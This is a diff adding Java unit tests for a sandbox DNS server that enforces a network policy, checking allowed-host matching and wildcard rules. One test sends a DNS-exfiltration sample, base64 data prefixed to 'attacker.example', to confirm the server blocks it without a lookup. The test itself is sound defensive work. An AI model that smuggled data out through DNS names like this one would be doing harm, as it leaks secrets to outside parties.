@@ -98,4 +98,62 @@ class SandboxDnsTest {
             assertThat(reply.getShort(0)).as("the slow query's id").isEqualTo((short) 6);
         }
     }
+
+    @Test
+    void namesThePolicyDoesNotNameAreNxdomainWithoutALookup() throws Exception {
+        java.util.concurrent.atomic.AtomicInteger lookups = new java.util.concurrent.atomic.AtomicInteger();
+        dev.openshell.policy.Policy policy = dev.openshell.policy.PolicyParser.parse("""
+                version: 1
+                network_policies:
+                  api:
+                    endpoints: [{host: api.test, port: 443}]
+                    binaries: [/usr/bin/curl]
+                """);
+        try (SandboxDns policed = SandboxDns.start(
+                new InetSocketAddress("127.0.0.1", 0),
+                host -> {
+                    lookups.incrementAndGet();
+                    return resolver.resolve(host);
+                },
+                name -> PolicyHostNames.names(policy, name))) {
+            byte[] allowed = askAt(policed, DnsQueryTest.query(7, "API.test.", DnsQuery.TYPE_A));
+            assertThat(rcode(allowed)).isEqualTo(DnsQuery.NOERROR);
+            assertThat(answers(allowed)).isEqualTo(1);
+            // A name carrying data to a domain the policy does not name never reaches the resolver.
+            byte[] exfil = askAt(policed, DnsQueryTest.query(8, "c2VjcmV0.attacker.example", DnsQuery.TYPE_A));
+            assertThat(rcode(exfil)).isEqualTo(DnsQuery.NXDOMAIN);
+            assertThat(lookups).hasValue(1);
+        }
+    }
+
+    @Test
+    void policyHostNamesMatchExactAndWildcardHostsOnly() {
+        dev.openshell.policy.Policy policy = dev.openshell.policy.PolicyParser.parse("""
+                version: 1
+                network_policies:
+                  gh:
+                    endpoints:
+                      - {host: api.github.com, port: 443}
+                      - {host: "**.githubusercontent.com", port: 443}
+                      - {allowed_ips: [10.0.0.0/8], port: 5432}
+                    binaries: [/usr/bin/gh]
+                """);
+        assertThat(PolicyHostNames.names(policy, "api.github.com")).isTrue();
+        assertThat(PolicyHostNames.names(policy, "a.b.githubusercontent.com")).isTrue();
+        assertThat(PolicyHostNames.names(policy, "github.com")).isFalse();
+        assertThat(PolicyHostNames.names(policy, "githubusercontent.com")).isFalse();
+        assertThat(PolicyHostNames.names(dev.openshell.policy.Policy.denyAll(), "api.github.com"))
+                .isFalse();
+    }
+
+    private static byte[] askAt(SandboxDns target, byte[] packet) throws Exception {
+        try (var socket = new java.net.DatagramSocket()) {
+            socket.setSoTimeout(3000);
+            socket.send(new java.net.DatagramPacket(packet, packet.length, target.address()));
+            byte[] buffer = new byte[1024];
+            var reply = new java.net.DatagramPacket(buffer, buffer.length);
+            socket.receive(reply);
+            return java.util.Arrays.copyOf(buffer, reply.getLength());
+        }
+    }
 }
